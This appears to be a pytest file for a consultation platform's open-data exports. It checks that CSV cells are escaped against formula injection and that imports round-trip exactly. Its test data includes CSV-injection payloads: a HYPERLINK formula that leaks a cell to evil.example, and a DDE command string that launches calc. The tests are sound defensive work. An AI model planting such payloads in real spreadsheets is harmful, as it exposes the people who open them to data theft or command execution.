"""Open data that is safe to open: no CSV cell the site writes runs as a spreadsheet formula, and
import-polis restores the text exactly; comments.csv counts the page's final answers; every
download has a README, normal file permissions, and the run's JSON with ids as in the CSVs,
valid against its published schema; the open data page and its DCAT catalogue list every
published consultation; a download imported into a fresh instance gives the same groups."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import jsonschema
import pytest
from flask_migrate import upgrade
from sqlalchemy import select

from deliberate.config import ConfigurationError, settings_from_environment
from deliberate.extensions import db
from deliberate.models import (
    AnalysisRun,
    Consultation,
    ModerationMode,
    ModerationStatus,
    Participant,
    ParticipantRole,
    RemovalReason,
    Statement,
    StatementOrigin,
    normalise_statement,
)
from deliberate.polis_format import read_export
from deliberate.polis_format.cells import FORMULA_STARTS
from deliberate.services import analysis_runs, reports
from deliberate.services import consultations as consultation_service
from deliberate.services.polis_exchange import topics_csv
from tests.conftest import make_test_app
from tests.helpers import POLIS_DATA, cli, html_of, sign_in, text_of
from tests.test_reports import add_votes, analyse, imported

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the results")',
    "=1+1",
    "+SUM(1,2)",
    "-2+3",
    "@A1",
    "\t=x",
    "\rA statement that starts with a carriage return.",
    "'=A statement that really starts with an apostrophe and an equals sign.",
    "A plain statement about waiting times, with a comma.",
)
CSV_NAMES = ("comments.csv", "votes.csv", "participants-votes.csv", "summary.csv")


# -- a consultation written by someone hostile ----------------------------------------------------


def hostile_consultation(missions, title: str = "=cmd|' /C calc'!A0") -> Consultation:
    """Statements stored as an import would store them (the site's own form trims the tab and
    carriage return away), answered by twenty people; one comment is taken down later."""
    consultation = Consultation(
        mission=missions["nhs"],
        title=title,
        context="-a description that starts with a minus",
        moderation_mode=ModerationMode.POST,
    )
    db.session.add(consultation)
    db.session.flush()
    statements = []
    for n, text in enumerate(HOSTILE):
        statement = Statement(
            consultation_id=consultation.id,
            text=text,
            normalised_text=normalise_statement(text),
            origin=StatementOrigin.SEED if n % 2 else StatementOrigin.PARTICIPANT,
            moderation=ModerationStatus.ACCEPTED,
        )
        db.session.add(statement)
        statements.append(statement)
    db.session.flush()
    consultation.open()
    add_votes(
        consultation,
        statements,
        [
            (
                ParticipantRole.CITIZEN,
                {i: (1, -1, 0)[(i * (n + 1) + n // 10) % 3] for i in range(len(HOSTILE))},
            )
            for n in range(20)
        ],
    )
    db.session.commit()
    return consultation


def downloads(consultation_id: int, run_id: int) -> tuple[str, ...]:
    """Every zip of a consultation: the run's, the open data one and the team's data as it is."""
    base = f"/consultations/{consultation_id}"
    return (
        f"{base}/report/runs/{run_id}/polis-export.zip",
        f"{base}/open-data.zip",
        f"/manage{base}/data/polis-export.zip",
    )


def zip_of(response) -> zipfile.ZipFile:
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "application/zip"
    return zipfile.ZipFile(io.BytesIO(response.data))


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def formula_cells(name: str, text: str) -> list[str]:
    """Cells that would run as a formula: text starting with a formula character (numbers such as
    -1 are numbers to a spreadsheet, not formulas)."""
    return [
        f"{name}: {cell!r}"
        for row in csv_rows(text)
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not re.fullmatch(r"-?\d+(\.\d+)?", cell)
    ]


# -- 1. no CSV cell the site writes starts a formula ----------------------------------------------


def test_no_csv_cell_the_site_writes_starts_a_formula(app, client, missions, create_user, tmp_path):
    consultation = hostile_consultation(missions)
    cid = consultation.id
    admin = create_user(email="admin@example.org", admin=True)
    hostile_comment = db.session.scalars(
        select(Statement).where(
            Statement.consultation_id == cid, Statement.origin == StatementOrigin.PARTICIPANT
        )
    ).first()
    run = analyse(cid)
    # A stored topic whose label is hostile too (the topic model labels topics with words).
    run.results = {**run.results, "topics": stored_topics(run, label="=HYPERLINK(A1)")}
    reports.publish_run(admin, consultation, run)
    consultation_service.moderate(
        admin, hostile_comment, accept=False, note="@note", removal_reason=RemovalReason.ABUSIVE
    )
    db.session.commit()
    sign_in(client, admin.email)

    written: dict[str, str] = {}
    base = f"/consultations/{cid}"
    for where in downloads(cid, run.id):
        archive = zip_of(client.get(where))
        for name in archive.namelist():
            if name.endswith(".csv"):
                written[f"{where} {name}"] = archive.read(name).decode()
    for where in (f"/manage{base}/moderation-log.csv", "/admin/audit.csv"):
        response = client.get(where)
        assert response.status_code == 200
        written[where] = response.get_data(as_text=True)
    cli(app, "export-polis", cid, tmp_path / "cli")
    for path in sorted((tmp_path / "cli").iterdir()):
        written[f"export-polis {path.name}"] = path.read_text(encoding="utf-8")

    assert any("topics.csv" in key for key in written)
    assert any("moderation-log.csv" in key for key in written)
    assert len(written) >= 20
    hostile_text_seen = "".join(written.values())
    assert "'=HYPERLINK(" in hostile_text_seen and "'@note" in hostile_text_seen
    unsafe = [cell for name, text in written.items() for cell in formula_cells(name, text)]
    assert unsafe == []
    # Numbers stay numbers: a disagreement is -1, unescaped.
    votes = next(text for name, text in written.items() if name.endswith(" votes.csv"))
    assert "-1" in {row[-1] for row in csv_rows(votes)[1:]}
    assert "'-1" not in votes


def stored_topics(run: AnalysisRun, label: str) -> dict:
    """A topics result as the topic model stores it: every statement in one topic."""
    ids = run.results["votes"]["statements"]["statement_ids"]
    return {
        "status": "ok",
        "message": "1 topic.",
        "statement_ids": ids,
        "assignments": [0] * len(ids),
        "topics": [
            {
                "id": 0,
                "label": label,
                "keywords": ["waiting"],
                "size": len(ids),
                "representative": [0],
                "centroid": [0.0],
            }
        ],
        "by_topic": [],
        "language": "en",
        "model_name": "a test model",
        "model_fingerprint": "test",
        "parameters": {"seed": 1},
    }


def test_topics_csv_escapes_labels_and_keeps_negative_topic_ids_as_numbers():
    text = topics_csv({10: (-1, "Other"), 11: (0, "-dash topic")}, {10: 0, 11: 1})
    assert text.splitlines() == [
        "comment-id,topic-id,topic-label",
        "0,-1,Other",
        "1,0,'-dash topic",
    ]


# -- 2. export, import, export: the same bytes ----------------------------------------------------


def test_a_download_imported_and_exported_again_is_byte_for_byte_the_same(
    app, client, missions, create_user, tmp_path
):
    consultation = hostile_consultation(missions)
    team = create_user(email="team@example.org", team=(missions["nhs"],))
    sign_in(client, team.email)
    download = zip_of(client.get(f"/manage/consultations/{consultation.id}/data/polis-export.zip"))
    folder = tmp_path / "download"
    download.extractall(folder)

    output = cli(app, "import-polis", folder, "--mission", "nhs")
    copy_id = int(output.strip().splitlines()[-1])
    assert copy_id != consultation.id
    texts = db.session.scalars(
        select(Statement.text).where(Statement.consultation_id == copy_id).order_by(Statement.id)
    ).all()
    assert tuple(texts) == HOSTILE  # every text exactly as written, escaping undone
    copy = db.session.get(Consultation, copy_id)
    assert (copy.title, copy.context) == (consultation.title, consultation.context)

    cli(app, "export-polis", copy_id, tmp_path / "again")
    for name in CSV_NAMES:
        assert (tmp_path / "again" / name).read_bytes() == download.read(name), name
    # And once more through the reader and writer alone.
    assert read_export(tmp_path / "again").comments == read_export(folder).comments


# -- 3. comments.csv counts final answers, as the page; the README says what matches what -------


def page_counts(html: str) -> dict[int, tuple[int, int]]:
    """(agreed, disagreed) of each statement in the page's table, by its anchor's id."""
    rows = re.findall(r'<tr class="govuk-table__row" id="s-(\d+)">(.*?)</tr>', html, re.S)
    counts = {}
    for sid, row in rows:
        cells = re.findall(r'<td class="govuk-table__cell app-numbers">\s*(.*?)\s*</td>', row, re.S)
        numbers = [
            0 if c == "no votes" else int(c.split(" of ")[0].replace(",", "")) for c in cells
        ]
        counts[int(sid)] = (numbers[0], numbers[1])
    return counts


def test_brexit_comments_csv_counts_are_the_pages_and_the_readme_says_what_matches_what(
    app, client, missions, create_user, tmp_path
):
    cid = imported(missions)
    run = analyse(cid)
    reports.publish_run(
        create_user(team=(missions["growth"],)), db.session.get(Consultation, cid), run
    )
    db.session.commit()
    html = html_of(client.get(f"/consultations/{cid}/report/runs/{run.id}/statements"))
    source_id = dict(
        db.session.execute(
            select(Statement.id, Statement.source_id).where(Statement.consultation_id == cid)
        ).all()
    )
    on_page = {source_id[sid]: counts for sid, counts in page_counts(html).items()}
    assert len(on_page) == 50

    archive = zip_of(client.get(f"/consultations/{cid}/open-data.zip"))
    comments = list(csv.DictReader(io.StringIO(archive.read("comments.csv").decode())))
    in_file = {int(r["comment-id"]): (int(r["agrees"]), int(r["disagrees"])) for r in comments}
    assert in_file == on_page
    # Polis's own file counted changed answers too: 8 statements were off by one against the page.
    polis_file = (POLIS_DATA / "brexit-consensus" / "comments.csv").read_text(encoding="utf-8")
    polis = list(csv.DictReader(io.StringIO(polis_file, newline="")))
    polis_counts = {int(r["comment-id"]): (int(r["agrees"]), int(r["disagrees"])) for r in polis}
    assert sum(polis_counts[c] != on_page[c] for c in on_page) == 8

    votes = archive.read("votes.csv").decode().splitlines()
    assert len(votes) - 1 == 5_312
    assert "5,303 votes" in text_of(html_of(client.get(f"/consultations/{cid}/report")))
    readme = " ".join(archive.read("README.txt").decode().split())
    assert (
        "votes.csv: every answer including changed ones, as Polis writes it: 5,312 rows; the "
        "page's 5,303 votes count each person's final answer (9 answers were changed later"
    ) in readme
    assert "comments.csv: every statement, one row each (50 rows; the page's 50 statements)" in (
        readme
    )
    assert "participants-votes.csv: one row per participant (204 rows; the page's 204" in readme
    assert "Group A (group-id 0): 101, Group B (group-id 1): 88" in readme
    assert "CC BY 4.0: https://creativecommons.org/licenses/by/4.0/" in readme
    assert "Attribution to The Computational Democracy Project" in readme
    assert "https://compdemocracy.org/case-studies/2017-brexit-consensus" in readme
    assert "Escaped columns: comments.csv comment-body" in readme
    assert archive.namelist()[0] == "README.txt"
    for name in ("comments.csv", "votes.csv", "run.json", "run-v1.schema.json", "moderation.csv"):
        assert f"- {name}:" in archive.read("README.txt").decode()


# -- 4. permissions, the run's JSON and its schema ------------------------------------------------


def test_every_member_of_every_download_is_readable_by_everyone(app, client, missions, create_user):
    consultation = hostile_consultation(missions, title="Waiting times")
    team = create_user(email="team@example.org", team=(missions["nhs"],))
    run = analyse(consultation.id)
    run.results = {**run.results, "topics": stored_topics(run, label="Waiting")}
    reports.publish_run(team, consultation, run)
    db.session.commit()
    sign_in(client, team.email)
    base = f"/consultations/{consultation.id}"
    for where in downloads(consultation.id, run.id):
        archive = zip_of(client.get(where))
        assert "README.txt" in archive.namelist()
        for info in archive.infolist():
            assert info.external_attr >> 16 == 0o100644, (where, info.filename)
    archive = zip_of(client.get(f"{base}/open-data.zip"))
    assert "topics.csv" in archive.namelist()
    assert zip_of(client.get(f"{base}/open-data.zip")).read("votes.csv") == archive.read(
        "votes.csv"
    )


def test_the_run_json_uses_the_csv_ids_and_text_and_matches_its_published_schema(
    app, client, missions
):
    cid = imported(missions, "london.youth.policing")
    run = analyse(cid)
    run.published_at = run.finished_at
    db.session.commit()
    archive = zip_of(client.get(f"/consultations/{cid}/open-data.zip"))
    document = json.loads(archive.read("run.json"))
    schema = json.loads(archive.read("run-v1.schema.json"))
    served = client.get("/open-data/schema/run-v1.json")
    assert served.status_code == 200 and served.mimetype == "application/schema+json"
    assert json.loads(served.data) == schema
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    assert (
        schema["$id"] == document["schema"] == "http://deliberate.test/open-data/schema/run-v1.json"
    )
    validate(document, schema)

    comments = {
        int(r["comment-id"]): r
        for r in csv.DictReader(io.StringIO(archive.read("comments.csv").decode()))
    }
    statements = {s["id"]: s for s in document["statements"]}
    assert set(statements) == set(comments)  # the Polis comment ids, not the site's own
    for comment_id, statement in statements.items():
        assert statement["text"] == comments[comment_id]["comment-body"]
        assert statement["moderated"] == int(comments[comment_id]["moderated"])
        assert (statement["agrees"], statement["disagrees"]) == (
            int(comments[comment_id]["agrees"]),
            int(comments[comment_id]["disagrees"]),
        )
    assert sum(s["moderated"] == -1 for s in statements.values()) == 3
    assert document["method"]["votes"]["parameters"] == run.results["votes"]["parameters"]
    assert document["method"]["votes"]["method_version"] == run.results["votes"]["method_version"]
    assert document["licence"]["name"] == "CC BY 4.0"
    matrix = list(csv.DictReader(io.StringIO(archive.read("participants-votes.csv").decode())))
    in_groups = {}
    for row in matrix:
        if row["group-id"]:
            in_groups[int(row["group-id"])] = in_groups.get(int(row["group-id"]), 0) + 1
    assert {g["id"]: g["size"] for g in document["groups"]} == in_groups
    quoted = [q["statement_id"] for g in document["groups"] for q in g["representative"]]
    assert set(quoted) <= set(comments)


def validate(document: object, schema: dict) -> None:
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER
    )
    assert [e.message for e in validator.iter_errors(document)] == []


def test_the_schema_refuses_a_document_that_does_not_follow_it():
    """The schema is strict enough to mean something: a wrong format and a negative id fail."""
    schema = json.loads(
        (Path(reports.open_data.__file__).with_name("run-v1.schema.json")).read_text()
    )
    validator = jsonschema.Draft202012Validator(schema)
    messages = [e.message for e in validator.iter_errors({"format": "other"})]
    assert "'deliberate-run' was expected" in messages
    assert "'statements' is a required property" in messages
    statement_id = jsonschema.Draft202012Validator(schema["$defs"]["statement_id"])
    assert statement_id.is_valid(7) and not statement_id.is_valid(-1)


# -- 5. the open data page, its catalogue and the licence setting ---------------------------------


def test_the_open_data_page_and_catalogue_list_every_published_consultation_and_no_other(
    app, client, missions, create_user
):
    team = create_user(email="team@example.org", team=tuple(missions.values()))
    published = db.session.get(Consultation, imported(missions))
    run = analyse(published.id)
    reports.publish_run(team, published, run)
    own = hostile_consultation(missions, title="Waiting times at the surgery")
    reports.publish_run(team, own, analyse(own.id))
    unpublished = hostile_consultation(missions, title="Not published yet")
    analyse(unpublished.id)
    db.session.commit()

    page = html_of(client.get("/open-data"))
    text = text_of(page)
    assert "Can there be consensus on Brexit?" in text and "Waiting times at the surgery" in text
    assert "Not published yet" not in text
    assert "204 participants, 50 statements, 5,303 votes" in text
    assert f'href="/consultations/{published.id}/open-data.zip"' in page
    assert f'href="/consultations/{own.id}/open-data.zip"' in page
    assert 'href="https://creativecommons.org/licenses/by/4.0/" rel="license"' in page
    assert "Attribution to The Computational Democracy Project" in text
    assert client.get(f"/consultations/{unpublished.id}/open-data.zip").status_code == 404
    assert client.get("/consultations/99999/open-data.zip").status_code == 404

    response = client.get("/open-data/catalogue.json")
    assert response.status_code == 200 and response.mimetype == "application/ld+json"
    catalogue = json.loads(response.data)
    assert catalogue["@type"] == "dcat:Catalog"
    datasets = {d["dct:title"]: d for d in catalogue["dcat:dataset"]}
    assert set(datasets) == {"Can there be consensus on Brexit?", "Waiting times at the surgery"}
    brexit = datasets["Can there be consensus on Brexit?"]
    assert brexit["dct:license"] == "https://creativecommons.org/licenses/by/4.0/"
    assert brexit["dct:source"] == "https://compdemocracy.org/case-studies/2017-brexit-consensus"
    [download, _schema] = brexit["dcat:distribution"]
    assert download["dcat:downloadURL"] == (
        f"http://deliberate.test/consultations/{published.id}/open-data.zip"
    )
    assert client.get(download["dcat:downloadURL"]).status_code == 200


def test_the_site_own_consultations_carry_the_operator_licence(app, client, missions, create_user):
    app.config.update(
        DATA_LICENCE="OGL-UK-3.0",
        DATA_LICENCE_URL="https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/",
        OPERATOR_NAME="NHS Somewhere",
    )
    team = create_user(email="team@example.org", team=(missions["nhs"],))
    own = hostile_consultation(missions, title="Waiting times")
    reports.publish_run(team, own, analyse(own.id))
    db.session.commit()
    readme = zip_of(client.get(f"/consultations/{own.id}/open-data.zip")).read("README.txt")
    readme_text = " ".join(readme.decode().split())
    assert (
        "OGL-UK-3.0: https://www.nationalarchives.gov.uk/doc/open-government-licence/version/3/"
        in readme_text
    )
    assert (
        "Attribution: NHS Somewhere: “Waiting times”, a consultation on Deliberate" in readme_text
    )
    assert "OGL-UK-3.0" in text_of(html_of(client.get("/open-data")))


def test_the_data_licence_setting_defaults_to_cc_by_and_needs_a_url_for_others(tmp_path):
    env = {"SECRET_KEY": "x"}
    settings = settings_from_environment(tmp_path, env)
    assert (settings["DATA_LICENCE"], settings["DATA_LICENCE_URL"]) == (
        "CC BY 4.0",
        "https://creativecommons.org/licenses/by/4.0/",
    )
    named = settings_from_environment(tmp_path, {**env, "DELIBERATE_DATA_LICENCE": "CC0 1.0"})
    assert named["DATA_LICENCE_URL"] == "https://creativecommons.org/publicdomain/zero/1.0/"
    with pytest.raises(ConfigurationError, match="DELIBERATE_DATA_LICENCE_URL"):
        settings_from_environment(tmp_path, {**env, "DELIBERATE_DATA_LICENCE": "Our own"})
    own = settings_from_environment(
        tmp_path,
        {
            **env,
            "DELIBERATE_DATA_LICENCE": "Our own",
            "DELIBERATE_DATA_LICENCE_URL": "https://x.example/l",
        },
    )
    assert own["DATA_LICENCE_URL"] == "https://x.example/l"


# -- 6. the round trip: a published zip imported into a fresh instance gives the same findings ----


def groups_and_topics(consultation_id: int) -> tuple[set[frozenset[int]], dict]:
    """The newest run's opinion groups as sets of participants, and its topics as label -> set of
    statements, both by their Polis ids (so two instances can be compared, labels aside)."""
    run = analysis_runs.latest_run(consultation_id)
    people = dict(
        db.session.execute(
            select(Participant.id, Participant.source_id).where(
                Participant.consultation_id == consultation_id
            )
        ).all()
    )
    comments = dict(
        db.session.execute(
            select(Statement.id, Statement.source_id).where(
                Statement.consultation_id == consultation_id
            )
        ).all()
    )
    members: dict[int, set[int]] = {}
    for own, group in analysis_runs.opinion_group_of(run).items():
        members.setdefault(group, set()).add(people[own])
    topics = reports.findings_of(run).topics
    assert topics is not None and topics.ok, topics
    by_label: dict[str, set[int]] = {}
    for own, (_tid, label) in topics.topic_of_statements().items():
        by_label.setdefault(label, set()).add(comments[own])
    return {frozenset(m) for m in members.values()}, by_label


@pytest.mark.model
@pytest.mark.slow
def test_a_published_zip_imported_into_a_fresh_instance_gives_the_same_groups_and_topics(
    app, client, missions, create_user, database_url, tmp_path
):
    cid = imported(missions)
    cli(app, "analyse", cid)
    team = create_user(email="team@example.org", team=(missions["growth"],))
    reports.publish_run(team, db.session.get(Consultation, cid), analysis_runs.latest_run(cid))
    db.session.commit()
    groups, topics = groups_and_topics(cid)
    assert len(groups) == 2 and len(topics) >= 2

    zip_of(client.get(f"/consultations/{cid}/open-data.zip")).extractall(tmp_path / "zip")
    fresh = make_test_app(
        f"sqlite:///{tmp_path / 'fresh.sqlite3'}",
        tmp_path / "fresh",
        EMBEDDING_DELAY_SECONDS=3600,  # the command embeds; no background job races it
    )
    try:
        with fresh.app_context():
            upgrade()
            output = cli(fresh, "import-polis", tmp_path / "zip", "--mission", "growth")
            copy_id = int(output.strip().splitlines()[-1])
            cli(fresh, "analyse", copy_id)
            fresh_groups, fresh_topics = groups_and_topics(copy_id)
            db.session.remove()
            db.engine.dispose()
    finally:
        fresh.extensions["deliberate_jobs"].shutdown(timeout=60)
    assert fresh_groups == groups  # the same people together, whatever the groups are called
    assert fresh_topics == topics
